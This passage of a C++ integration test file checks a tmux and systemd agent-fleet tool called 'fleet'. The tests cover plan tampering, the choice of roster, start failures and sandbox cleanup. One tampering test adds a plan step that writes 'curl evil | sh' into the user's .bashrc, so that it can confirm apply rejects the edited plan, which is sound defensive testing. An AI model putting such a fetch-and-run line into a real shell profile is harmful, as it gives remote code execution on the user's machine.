  // stop a unit — while the changes shown still say only what the roster asked.
  Converge();
  sandbox_.Tmux(kSocket, {"new-session", "-d", "-s", "scratch", "--", "sleep", "1000"});
  WriteRoster(
      std::string(kRoster).replace(std::string(kRoster).find("runtime: pi"), 11, "runtime: codex"));
  std::string plan_file = sandbox_.root() + "/fleet.plan";
  ASSERT_EQ(sandbox_.Fleet({"plan", "--out", plan_file}).code, 0);
  nlohmann::json original = nlohmann::json::parse(sandbox_.ReadFile(plan_file));
  const std::string bashrc = sandbox_.Home() + "/.bashrc", outside = sandbox_.root() + "/outside";
  auto step = [](const std::string& kind, std::vector<std::string> names, const std::string& path,
                 const std::string& content, int mode, const std::string& socket = "") {
    return nlohmann::json{{"kind", kind},    {"names", names},
                          {"path", path},    {"content", content},
                          {"mode", mode},    {"owned", nlohmann::json::array()},
                          {"socket", socket}};
  };
  std::vector<nlohmann::json> edits = {
      step("write-file", {}, bashrc, "curl evil | sh\n", 0644),
      step("write-file", {}, outside, "x\n", 0644), step("kill-sessions", {"scratch"}, "", "", 0),
      step("stop", {"mosaic-agent@a.service"}, "", "", 0),
      // As if the fleet had moved away from its own socket: its server would end.
      step("retire-socket", {}, sandbox_.Config() + "/mosaic/fleet/run/previous-sockets", "", 0,
           kSocket)};
  std::string before = Snapshot();
  for (const nlohmann::json& edit : edits) {
    nlohmann::json edited = original;
    edited["steps"].push_back(edit);
    sandbox_.WriteFile(plan_file, edited.dump(2));
    RunResult r = sandbox_.Fleet({"apply", "--yes", plan_file});
    EXPECT_EQ(r.code, 1) << edit.dump();
    EXPECT_THAT(r.err, HasSubstr("is not the plan the roster and the fleet produce now"));
    EXPECT_THAT(r.err, HasSubstr("nothing was changed"));
  }
  nlohmann::json swapped = original;  // same number of steps, one replaced
  swapped["steps"][0] = edits[0];
  sandbox_.WriteFile(plan_file, swapped.dump(2));
  EXPECT_EQ(sandbox_.Fleet({"apply", "--yes", plan_file}).code, 1);
  EXPECT_EQ(Snapshot(), before);
  EXPECT_FALSE(sandbox_.Exists(bashrc));
  EXPECT_FALSE(sandbox_.Exists(outside));
  EXPECT_TRUE(sandbox_.Sessions(kSocket).count("scratch"));
  // The plan as saved still applies.
  sandbox_.WriteFile(plan_file, original.dump(2));
  RunResult r = sandbox_.Fleet({"apply", "--yes", plan_file});
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_TRUE(sandbox_.Sessions(kSocket).count("scratch"));
}

TEST_F(FleetIntegration, ASavedPlanNeverChoosesTheRosterItIsAppliedWith) {
  // The roster is the command line's (or the default): an edited file could otherwise point
  // apply at any roster at all, fingerprint and all.
  const std::string other = sandbox_.root() + "/other.yaml";
  sandbox_.WriteFile(other, "version: 1\ntmux: {socket_name: itest}\nagents: []\n");
  WriteRoster(kRoster);
  std::string plan_file = sandbox_.root() + "/fleet.plan";
  ASSERT_EQ(sandbox_.Fleet({"plan", "--roster", other, "--out", plan_file}).code, 0);
  std::string before = Snapshot();
  RunResult r = sandbox_.Fleet({"apply", "--yes", plan_file});
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(r.err, HasSubstr("was made from the roster " + other));
  EXPECT_THAT(r.err, HasSubstr("pass --roster " + other));
  EXPECT_EQ(Snapshot(), before);
  EXPECT_EQ(sandbox_.Fleet({"apply", "--yes", "--roster", other, plan_file}).code, 0);
}

TEST_F(FleetIntegration, UnitFilesAreNeverWrittenWhereTheManagerDoesNotLook) {
  WriteRoster(kRoster);
  RunResult r = sandbox_.Fleet({"apply", "--yes", "--roster", sandbox_.RosterPath()}, {},
                               {{"XDG_CONFIG_HOME", sandbox_.root() + "/elsewhere"}});
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(r.err, HasSubstr("the user manager does not load units from " + sandbox_.root() +
                               "/elsewhere/systemd/user"));
  EXPECT_FALSE(sandbox_.Exists(sandbox_.root() + "/elsewhere"));
}

TEST_F(FleetIntegration, WhatWouldMakeAStartFailIsALocatedErrorBeforeAnythingChanges) {
  WriteRoster(
      "version: 1\ntmux: {socket_name: itest}\nruntimes: {ghost: {command: no-such-program -x}}\n"
      "agents:\n"
      "  - {name: a, runtime: pi, working_directory: /nonexistent/dir}\n"
      "  - {name: a0, runtime: ghost}\n");
  std::string before = Snapshot();
  RunResult r = Apply();
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(r.out, HasSubstr(sandbox_.RosterPath() + ":5:"));
  EXPECT_THAT(r.out, HasSubstr("agent a's working directory \"/nonexistent/dir\" does not exist"));
  EXPECT_THAT(r.out, HasSubstr(sandbox_.RosterPath() + ":6:"));
  EXPECT_THAT(r.out, HasSubstr("agent a0's command runs \"no-such-program\", which is not found"));
  EXPECT_EQ(Snapshot(), before);
}

TEST_F(FleetIntegration, AFailedActionStopsApplyAndSaysWhatWasAndWasNotDone) {
  // A start that fails for a reason no plan can see: the user's own drop-in.
  const std::string drop_in =
      sandbox_.Config() + "/systemd/user/mosaic-agent@a.service.d/fail.conf";
  sandbox_.WriteFile(drop_in, "[Service]\nExecStartPre=/bin/false\n");
  WriteRoster(kRoster);
  RunResult r = Apply();
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(r.err, HasSubstr("FAILED start"));
  EXPECT_THAT(r.err, HasSubstr("mosaic-agent@a.service: failed"));
  EXPECT_THAT(r.err, HasSubstr("Done before it:"));
  EXPECT_THAT(r.err, HasSubstr("Every step is safe to repeat"));
  // Fixing the cause and applying again converges.
  std::filesystem::remove(drop_in);
  ASSERT_EQ(Apply().code, 0);
  EXPECT_TRUE(PlanIsEmpty());

  // A start that `session run` itself refuses: its own words reach apply through systemd
  // (STATUS=), journal or not. (The working directory vanishes after the plan looked: the
  // user's drop-in removes it just before the unit starts.)
  const std::string gone = sandbox_.root() + "/gone";
  sandbox_.WriteFile(gone + "/keep", "");
  sandbox_.WriteFile(sandbox_.Config() + "/systemd/user/mosaic-agent@b.service.d/test.conf",
                     "[Service]\nExecStartPre=/bin/rm -rf " + gone + "\n");
  WriteRoster(std::string(kRoster) + "  - {name: b, runtime: pi, working_directory: " + gone +
              "}\n");
  r = Apply();
  EXPECT_EQ(r.code, 1);
  EXPECT_THAT(r.err, HasSubstr("mosaic-agent@b.service: failed"));
  EXPECT_THAT(r.err,
              HasSubstr("| error: working directory " + gone + " of agent b does not exist"));
  std::filesystem::remove(sandbox_.Config() + "/systemd/user/mosaic-agent@b.service.d/test.conf");
  WriteRoster(kRoster);

  ASSERT_EQ(Apply().code, 0);
  EXPECT_TRUE(PlanIsEmpty());
}

TEST_F(FleetIntegration, SessionStartRefusesAnEmptyRuntimeAMissingDirectoryAndDuplicates) {
  Converge();
  std::string env = sandbox_.ReadFile(sandbox_.EnvFile("a"));
  long a = sandbox_.Sessions(kSocket)["a"];
  RunResult again = sandbox_.Fleet({"session", "start", "a"});
  EXPECT_EQ(again.code, 0);
  EXPECT_THAT(again.out, HasSubstr("already running"));
  EXPECT_EQ(sandbox_.Sessions(kSocket)["a"], a) << "a live session is never duplicated or replaced";
  RunResult replaced = sandbox_.Fleet({"session", "start", "a", "--replace"});
  EXPECT_EQ(replaced.code, 0) << replaced.err;
  EXPECT_NE(sandbox_.Sessions(kSocket)["a"], a);

  sandbox_.WriteFile(sandbox_.EnvFile("a"), env + "MOSAIC_AGENT_WORKDIR=/nonexistent/dir\n");
  RunResult no_dir = sandbox_.Fleet({"session", "start", "a", "--replace"});
  EXPECT_EQ(no_dir.code, 1);
  EXPECT_THAT(no_dir.err,
              HasSubstr("working directory /nonexistent/dir of agent a does not exist"));
  sandbox_.WriteFile(sandbox_.EnvFile("a"), env + "MOSAIC_AGENT_RUNTIME=\n");
  RunResult no_runtime = sandbox_.Fleet({"session", "start", "a", "--replace"});
  EXPECT_EQ(no_runtime.code, 1);
  EXPECT_THAT(no_runtime.err, HasSubstr("MOSAIC_AGENT_RUNTIME is empty"));
  // session stop (every agent unit's ExecStop) kills only what the tool created.
  sandbox_.Tmux(kSocket, {"new-session", "-d", "-s", "mine", "--", "sleep", "1000"});
  sandbox_.WriteFile(sandbox_.EnvFile("mine"), "MOSAIC_TMUX_SOCKET=itest\n");
  RunResult foreign = sandbox_.Fleet({"session", "stop", "mine"});
  EXPECT_EQ(foreign.code, 1);
  EXPECT_THAT(foreign.err, HasSubstr("refusing to kill session mine"));
  EXPECT_TRUE(sandbox_.Sessions(kSocket).count("mine"));
  RunResult bad_name = sandbox_.Fleet({"session", "stop", "a0:0"});
  EXPECT_EQ(bad_name.code, 1);
  EXPECT_TRUE(sandbox_.Sessions(kSocket).count("a0")) << "a target with ':' must never reach tmux";
}

TEST(FleetSandbox, StoppingTheManagerEndsTheFleetAndLeavesNothingBehind) {
  std::string root;
  std::vector<std::string> cgroups;
  {
    Sandbox sandbox;
    if (!sandbox.unavailable().empty()) GTEST_SKIP() << sandbox.unavailable();
    root = sandbox.root();
    cgroups = sandbox.CgroupDirectories();
    sandbox.InstallStandInAgent();
    sandbox.WriteFile(sandbox.RosterPath(), kRoster);
    ASSERT_EQ(sandbox.Fleet({"apply", "--yes"}).code, 0);
    ASSERT_NE(sandbox.ServerPid(kSocket), 0);
    sandbox.StopManager();  // as at logout or shutdown
    EXPECT_EQ(sandbox.ServerPid(kSocket), 0) << "the fleet's tmux server must end with its holder";
    EXPECT_TRUE(sandbox.SentinelIntact());
  }
  EXPECT_FALSE(std::filesystem::exists(root));
  ASSERT_FALSE(cgroups.empty());
  for (const std::string& cgroup : cgroups) {
    std::string top = cgroup.substr(0, cgroup.rfind('/'));
    EXPECT_FALSE(std::filesystem::exists(top)) << "left behind: cgroup " << top;
  }
  for (const auto& proc : std::filesystem::directory_iterator("/proc")) {
    std::ifstream environ(proc.path() / "environ");
    std::string env((std::istreambuf_iterator<char>(environ)), std::istreambuf_iterator<char>());
    EXPECT_EQ(env.find(root), std::string::npos) << "left behind: pid " << proc.path().filename();
  }
}

TEST(FleetSandbox, TwoSandboxesRunSideBySideWithoutTouchingEachOther) {
  // Each user manager has its own cgroup root: stopping one fleet's holder (which ends its
  // tmux server) must not end the other's, though both use the same unit and socket names.
  Sandbox first, second;
  for (Sandbox* s : {&first, &second}) {
    if (!s->unavailable().empty()) GTEST_SKIP() << s->unavailable();
    s->InstallStandInAgent();
    s->WriteFile(s->RosterPath(), kRoster);
    RunResult r = s->Fleet({"apply", "--yes"});
    ASSERT_EQ(r.code, 0) << r.err;
  }
  long second_server = second.ServerPid(kSocket);
  std::map<std::string, long> second_sessions = second.Sessions(kSocket);
  ASSERT_NE(second_server, 0);
  ASSERT_NE(first.ServerPid(kSocket), second_server);
  ASSERT_EQ(first.Exec({"systemctl", "--user", "stop", "mosaic-tmux-holder.service"}).code, 0);
  EXPECT_EQ(first.ServerPid(kSocket), 0);
  EXPECT_EQ(second.ServerPid(kSocket), second_server);
  EXPECT_EQ(second.Sessions(kSocket), second_sessions);
  EXPECT_TRUE(first.SentinelIntact());
  EXPECT_TRUE(second.SentinelIntact());
}

}  // namespace
}  // namespace mosaic::integration
